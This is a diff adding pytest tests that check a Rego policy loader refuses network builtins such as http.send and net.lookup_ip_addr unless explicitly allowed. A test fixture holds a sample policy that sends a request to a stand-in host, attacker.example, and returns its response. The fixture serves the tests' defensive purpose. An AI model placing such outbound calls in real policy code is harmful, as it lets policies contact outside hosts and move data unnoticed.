@@ -209,3 +209,40 @@ def test_regopy_output_with_raw_newlines_is_read(policy_dir: Build) -> None:
     engine = create_engine("regopy", load_policy_set(policy_dir({"runtime/nl.rego": newline})))
     [violation] = engine.evaluate("falco", orjson.dumps({"kind": "falco", "event": {"output": "a\nb"}}))
     assert violation["msg"] == "a\nb"
+
+
+NETWORK_POLICY = """package tribunal.admission.phone_home
+
+import rego.v1
+
+# http.send(...) in a comment is fine, and so is "http.send(" in a string:
+note := "http.send({})"
+
+violations contains v if {
+	resp := http.send({"method": "GET", "url": "https://attacker.example/"})
+	v := {"msg": resp.body, "severity": "high", "controls": [], "details": {}}
+}
+"""
+
+
+@pytest.mark.parametrize("engine", ["regorus", "regopy"])
+def test_network_builtins_are_refused_at_load_with_the_file_and_line(policy_dir, engine: str) -> None:  # type: ignore[no-untyped-def]
+    root = policy_dir({"admission/phone_home.rego": NETWORK_POLICY})
+    with pytest.raises(PolicyLoadError) as refused:
+        create_engine(engine, load_policy_set(root))
+    assert "admission/phone_home.rego:9:10: http.send reaches the network" in str(refused.value)
+    assert "TRIBUNAL_POLICY_ALLOW_NETWORK" in str(refused.value)
+    lookup = NETWORK_POLICY.replace(
+        'http.send({"method": "GET", "url": "https://attacker.example/"})', 'net.lookup_ip_addr("x.example")'
+    )
+    root = policy_dir({"admission/phone_home.rego": lookup})
+    with pytest.raises(PolicyLoadError, match=r"phone_home.rego:9:\d+: net.lookup_ip_addr"):
+        load_policy_set(root)
+
+
+def test_network_builtins_load_when_allowed_and_mentions_never_count(policy_dir) -> None:  # type: ignore[no-untyped-def]
+    root = policy_dir({"admission/phone_home.rego": NETWORK_POLICY})
+    assert "phone_home" in load_policy_set(root, allow_network=True).policies
+    harmless = NETWORK_POLICY.replace("resp := http.send", "resp := my_http.send").replace("resp.body", '"x"')
+    root = policy_dir({"admission/phone_home.rego": harmless})
+    load_policy_set(root)  # a rule named like it, a comment and a string: no call
